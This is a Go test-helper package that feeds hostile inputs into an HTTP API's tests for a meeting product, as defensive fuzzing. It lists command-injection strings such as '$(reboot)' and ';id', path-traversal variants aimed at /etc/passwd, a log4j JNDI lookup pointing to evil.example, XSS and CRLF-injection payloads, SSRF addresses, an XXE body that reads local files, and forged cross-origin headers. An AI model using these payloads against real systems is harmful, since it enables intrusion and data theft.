// Package apitest is what tests of an HTTP API attack it with: hostile texts,
// bodies of the wrong form, requests of other sites, paths that lead out. The
// tests of the console and those of the portal put them into every line of
// their tables.
package apitest

import (
	"fmt"
	"net/http"
	"slices"
	"strings"

	"github.com/parley-meet/parley/services/internal/api"
)

// Hostile are texts that some program somewhere has taken for more than text.
var Hostile = []string{
	"$(reboot)", "`reboot`", ";id", "| id", "&& id", "|| reboot", "%0aid", "x\nid", "x\r\nSet-Cookie: a=b", "' or '1'='1", `"; id; "`,
	"../../../../etc/passwd", "/etc/passwd\x00.pem", "--help", "-oProxyCommand=id", "{{.}}", "{{template \"frame.html\" .}}", "${jndi:ldap://evil.example/a}",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "%s%n%d%x", "\x00", "a\x00b",
	"\x1b[2J\x1b]0;owned\x07", "\u009b31m", "\u202egnp.exe", "\u2066hidden\u2069", "\ufffe", "\U000e0041", "admin ", "АДМИН",
	strings.Repeat("A", 10<<10), strings.Repeat("9", 400), "169.254.169.254", "0x7f.1", "::ffff:127.0.0.1", "1.2.3.4/0", "127.0.0.1", "255.255.255.255", "file:///etc/passwd", "-1", "1e9", "NaN",
}

// HostileIn reports whether a text holds one of them that a shell, a page or a
// terminal would obey.
func HostileIn(text string) bool {
	for _, h := range Hostile {
		if strings.ContainsAny(h, "$`;|&<{\x1b\x00") && strings.Contains(text, h) {
			return true
		}
	}
	return false
}

// StringPaths returns the way to each string in a value of JSON, as ["eth0"
// "address"] or ["routes" 0 "gateway"].
func StringPaths(v any) (found [][]any) {
	switch v := v.(type) {
	case string:
		return [][]any{nil}
	case map[string]any:
		for k, e := range v {
			for _, p := range StringPaths(e) {
				found = append(found, append([]any{k}, p...))
			}
		}
	case []any:
		for i, e := range v {
			for _, p := range StringPaths(e) {
				found = append(found, append([]any{i}, p...))
			}
		}
	}
	return found
}

// With returns a copy of a value of JSON with another string at the path.
func With(v any, path []any, s string) any {
	if len(path) == 0 {
		return s
	}
	switch k := path[0].(type) {
	case string:
		out := map[string]any{}
		for name, e := range v.(map[string]any) {
			out[name] = e
		}
		out[k] = With(out[k], path[1:], s)
		return out
	case int:
		out := slices.Clone(v.([]any))
		out[k] = With(out[k], path[1:], s)
		return out
	}
	panic("a path has names and numbers")
}

// Climbs are ends of paths that lead out of where the path begins, or that a
// program on the way may read as something else.
var Climbs = []string{
	"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
	"%252e%252e%252fetc%252fpasswd", "....//....//etc/passwd", `..\..\..\etc\passwd`, "..%5c..%5cetc%5cpasswd", "..%c0%afetc%c0%afpasswd",
	"%00", "zctrl%00", "zctrl%00.js", "zctrl/../../../../../etc/passwd", "zctrl%2f..%2f..%2f..%2fperm", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd",
	"zctrl%0a", "zctrl%0d%0aSet-Cookie:%20a=b", "zctrl;id", "zctrl|id", "$(reboot)", "`reboot`", "%7e", "*", "zctrl%20", "ZCTRL%ff%fe",
}

// Sites are the headers of requests that pages of other origins make a browser
// send; base is the product's own address.
func Sites(base string) map[string]http.Header {
	return map[string]http.Header{
		"fetch of another site":              {"Sec-Fetch-Site": {"cross-site"}, "Origin": {"https://evil.example"}},
		"fetch of another port":              {"Sec-Fetch-Site": {"same-site"}, "Origin": {"https://127.0.0.1:1"}},
		"older browser of another site":      {"Origin": {"https://evil.example"}},
		"sandbox":                            {"Origin": {"null"}},
		"http of the same name":              {"Origin": {strings.Replace(base, "https", "http", 1) + "0"}},
		"says that it is none":               {"Sec-Fetch-Site": {"cross-site"}},
		"other site with the right referrer": {"Sec-Fetch-Site": {"cross-site"}, "Referer": {base + "/"}},
	}
}

// Bodies are bodies that no endpoint takes; those with "too long" in their name
// are longer than any may be.
func Bodies() map[string]string {
	var many strings.Builder
	many.WriteString("{")
	for i := range 4000 {
		fmt.Fprintf(&many, `"f%d":"x",`, i)
	}
	many.WriteString(`"z":1}`)
	return map[string]string{
		"nothing":          "",
		"null":             "null",
		"a text":           `"text"`,
		"a list":           "[]",
		"half":             `{"a":`,
		"two values":       "{}{}",
		"more behind":      `{} x`,
		"deep":             strings.Repeat("[", 20000) + strings.Repeat("]", 20000),
		"deep object":      strings.Repeat(`{"a":`, 10000) + "1" + strings.Repeat("}", 10000),
		"many fields":      many.String(),
		"unknown field":    `{"nothing-of-that-name":1}`,
		"prototype":        `{"__proto__":{"admin":true}}`,
		"number for text":  `{"name":1,"typed":1,"id":1,"token":1,"password":1,"pem":1,"chain":1,"code":1,"answer":1,"role":1,"time":1,"tool":1,"title":1,"current":1,"hostname":1,"names":1,"authority":1,"lines":"x"}`,
		"large number":     `{"name":1e999999}`,
		"noise":            "\x00\xff\xfe\x80",
		"UTF-16":           "\xff\xfe{\x00}\x00",
		"byte order mark":  "\ufeff{}",
		"a form":           "name=x&password=y",
		"XML":              `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
		"exactly too long": `{"a":"` + strings.Repeat("x", api.MaxLargeBody) + `"}`,
		"far too long":     strings.Repeat(" ", 4<<20) + "{}",
	}
}
